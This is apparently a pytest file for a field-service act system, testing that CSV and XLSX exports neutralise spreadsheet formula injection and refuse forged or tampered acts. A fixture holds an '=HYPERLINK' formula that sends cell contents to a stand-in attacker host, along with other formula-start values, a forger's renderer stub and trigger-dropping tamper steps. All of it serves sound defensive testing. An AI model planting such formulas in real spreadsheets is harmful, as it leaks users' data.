"""Exports check in full and are safe in a spreadsheet: a forged act is refused on its first export and never
remembered as checked; the register shows the parties as signed, not as later edited; hostile names reach CSV and
XLSX as plain text."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime, time
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from fieldact.act import pdf as act_pdf
from fieldact.office.checks import CheckedDigests, check_act, checker_version
from fieldact.office.export import export_acts
from fieldact.office.materials import write_materials_report
from fieldact.office.queries import ActFilter, act_ids, load_act, search
from fieldact.office.register import RegisterFormat
from fieldact.office.sheets import csv_bytes, xlsx_bytes
from fieldact.standard import Service, VisitKind
from fieldact.store.acts import act_of_visit
from fieldact.store.db import open_database
from fieldact.store.doctor import full_check
from fieldact.store.repository import Store
from fieldact.store.sealing import seal_policy
from fieldact.store.signing import sign_demo_visit
from fieldact.visit import Material, Plan, Subscriber

DAY = date(2026, 11, 26)
HOSTILE = Subscriber(
    '=HYPERLINK("http://evil.example/?"&A1,"Иванов")',
    "+1+1",
    "@SUM(1)",
    "590000000123",
    "-2+3 ул. Ленина",
    "+7 912 000-00-01",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(tmp_path: Path, standard, brand) -> tuple[Store, str]:
    """A signed act whose subscriber, address and material names all start like spreadsheet formulas."""
    store = Store(open_database(tmp_path / "hostile.db"), standard, brand)
    zone = ZoneInfo(brand.timezone)
    technician = store.add_technician("Петров", "Пётр", "1234")
    visit = store.create_visit(
        VisitKind.CONNECTION,
        frozenset({Service.TV, Service.INTERNET}),
        HOSTILE,
        technician,
        Plan(datetime.combine(DAY, time(10), zone)),
    )
    store.add_material(visit, Material("-K5", "=1+2 кабель", 3, "м"), "Петров")
    sign_demo_visit(store, visit, datetime.combine(DAY, time(11), zone))
    yield store, visit
    store.database.dispose()


def every_act(store: Store) -> list[str]:
    return act_ids(store.database, ActFilter(), ZoneInfo(store.brand.timezone))


def assert_plain_text_cells(values: list[str]) -> None:
    for value in values:
        assert not value.startswith(FORMULA_STARTS), value


def test_hostile_names_reach_the_register_as_plain_text(hostile: tuple[Store, str], tmp_path: Path) -> None:
    store, _ = hostile
    for kind in (RegisterFormat.CSV, RegisterFormat.XLSX):
        target = tmp_path / f"{kind.value}.zip"
        report = export_acts(store.database, every_act(store), target, kind)
        assert report.ok and len(report.exported) == 1
        with zipfile.ZipFile(target) as archive:
            data = archive.read(f"register.{kind.value}")
        if kind is RegisterFormat.CSV:
            rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
            cells = [cell for row in rows for cell in row]
        else:
            sheet = load_workbook(io.BytesIO(data)).active
            assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "a formula cell"
            cells = [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert_plain_text_cells(cells)
        name = next(cell for cell in cells if "HYPERLINK" in cell)
        assert name == "'" + " ".join((HOSTILE.surname, HOSTILE.first_name, HOSTILE.patronymic)), name
        assert "'" + HOSTILE.address in cells


def test_hostile_names_reach_the_materials_report_as_plain_text(hostile: tuple[Store, str], tmp_path: Path) -> None:
    store, _ = hostile
    zone = ZoneInfo(store.brand.timezone)
    for suffix in ("csv", "xlsx"):
        path = tmp_path / f"materials.{suffix}"
        lines = write_materials_report(store.database, path, DAY, DAY, zone)
        assert [line.name for line in lines] == ["=1+2 кабель"]
        if suffix == "csv":
            cells = [c for row in csv.reader(io.StringIO(path.read_text("utf-8-sig")), delimiter=";") for c in row]
        else:
            sheet = load_workbook(path).active
            assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "a formula cell"
            cells = [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert_plain_text_cells(cells)
        assert "'=1+2 кабель" in cells and "'-K5" in cells


def test_every_formula_start_is_neutralised_in_both_formats() -> None:
    hostile = ["=1", "+1", "-1", "@A1", "\tx", "\rx", "ok"]
    rows = [[value] for value in hostile]
    csv_cells = [row[0] for row in csv.reader(io.StringIO(csv_bytes(["h"], rows).decode("utf-8-sig"), newline=""),
                                               delimiter=";")][1:]  # fmt: skip
    assert csv_cells == ["'=1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "ok"]
    sheet = load_workbook(io.BytesIO(xlsx_bytes("t", ["h"], rows, [10]))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == ["'=1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "ok"]
    assert {cell.data_type for cell in cells} == {"s"}


def test_the_register_shows_the_parties_as_signed_not_as_edited_later(
    hostile: tuple[Store, str], tmp_path: Path
) -> None:
    store, visit = hostile
    with store.database.engine.begin() as connection:  # dispatch's later edit of the live rows: allowed
        connection.execute(text("UPDATE subscriber SET surname = 'Подменов', first_name = 'Пётр', patronymic = ''"))
        connection.execute(text("UPDATE contract SET address = 'ул. Другая, 1'"))
        connection.execute(text("UPDATE technician SET surname = 'Другой'"))
    report = export_acts(store.database, every_act(store), tmp_path / "out.zip", RegisterFormat.CSV)
    (exported,) = report.exported
    assert exported.subscriber.startswith(HOSTILE.surname) and exported.address == HOSTILE.address
    assert exported.technician == "Петров Пётр"
    with zipfile.ZipFile(tmp_path / "out.zip") as archive:
        register = archive.read("register.csv").decode("utf-8-sig")
    assert "Подменов" not in register and "ул. Другая" not in register and "Другой" not in register
    (row,) = search(store.database, ActFilter(), ZoneInfo(store.brand.timezone)).rows
    assert (row.subscriber, row.address, row.technician) == (exported.subscriber, HOSTILE.address, "Петров Пётр")


def test_the_list_survives_content_that_is_not_json(hostile: tuple[Store, str]) -> None:
    store, _ = hostile
    with store.database.engine.begin() as connection:
        for (name,) in connection.execute(text("SELECT name FROM sqlite_master WHERE type = 'trigger'")).all():
            connection.execute(text(f"DROP TRIGGER {name}"))
        connection.execute(text("UPDATE act SET content = 'not json {'"))
    (row,) = search(store.database, ActFilter(), ZoneInfo(store.brand.timezone)).rows
    assert row.subscriber.startswith(HOSTILE.surname)  # the live rows, for an act that fails its checks anyway


def lying_footer(monkeypatch) -> None:
    """The forger's renderer: the act as made, but every page prints another content SHA-256."""
    made = act_pdf.ActDocument.__init__

    def init(self, content, content_hash, preview=False):  # type: ignore[no-untyped-def]
        made(self, content, "0" * 64, preview)

    monkeypatch.setattr(act_pdf.ActDocument, "__init__", init)


def test_first_export_runs_the_whole_verify_and_never_remembers_a_failed_act(
    hostile: tuple[Store, str], tmp_path: Path, monkeypatch, standard
) -> None:
    store, _ = hostile
    zone = ZoneInfo(store.brand.timezone)
    other = store.create_visit(
        VisitKind.CONNECTION,
        frozenset({Service.TV}),
        Subscriber("Сидоров", "Сидор", "Сидорович", "590000000456", "ул. Мира, 1", "+7 900"),
        store.technicians()[0].id,
        Plan(datetime.combine(DAY, time(14), zone)),
    )
    with monkeypatch.context() as patched:
        lying_footer(patched)
        sign_demo_visit(store, other, datetime.combine(DAY, time(15), zone))
    forged = act_of_visit(store, other)
    assert forged is not None
    assert any("напечатано не то, что записано в содержании акта" in p for p in full_check(store.database))
    checked = CheckedDigests(tmp_path / "checked.txt")
    checked.path.write_text(f"{forged.pdf_sha256}:{forged.content_sha256}\n", encoding="ascii")  # an old-format line
    checked = CheckedDigests(checked.path)
    report = export_acts(store.database, every_act(store), tmp_path / "out", RegisterFormat.CSV, checked)
    assert not report.ok
    assert [refused.act_id for refused in report.refused] == [forged.id]
    assert len(report.exported) == 1
    assert check_act(load_act(store.database, forged.id), checked), "the office window checks it again"
    remembered = checked.path.read_text(encoding="ascii").splitlines()
    policy = seal_policy(store.database, store.brand)
    exported = load_act(store.database, report.exported[0].act_id)
    assert [line for line in remembered if line.startswith(checker_version())] == [CheckedDigests.key(exported, policy)]
    again = export_acts(store.database, every_act(store), tmp_path / "again", None, checked, recheck=True)
    assert [refused.act_id for refused in again.refused] == [forged.id]


def test_materials_added_past_the_triggers_never_reach_the_report(hostile: tuple[Store, str], tmp_path: Path) -> None:
    store, visit = hostile
    zone = ZoneInfo(store.brand.timezone)
    before = write_materials_report(store.database, tmp_path / "before.csv", DAY, DAY, zone)
    with store.database.engine.begin() as connection:
        for (name,) in connection.execute(text("SELECT name FROM sqlite_master WHERE type = 'trigger'")).all():
            connection.execute(text(f"DROP TRIGGER {name}"))
        connection.execute(
            text(
                "INSERT INTO material_use (visit_id, code, name, quantity, unit, recorded_at) "
                "VALUES (:v, 'K-5E', 'Кабель UTP 5e', '999', 'м', '2026-11-26 12:00:00')"
            ),
            {"v": visit},
        )
    after = write_materials_report(store.database, tmp_path / "after.csv", DAY, DAY, zone)
    assert after == before and [line.quantity for line in after] == [3]
    assert any("list of materials" in p or "материалов" in p for p in full_check(store.database))
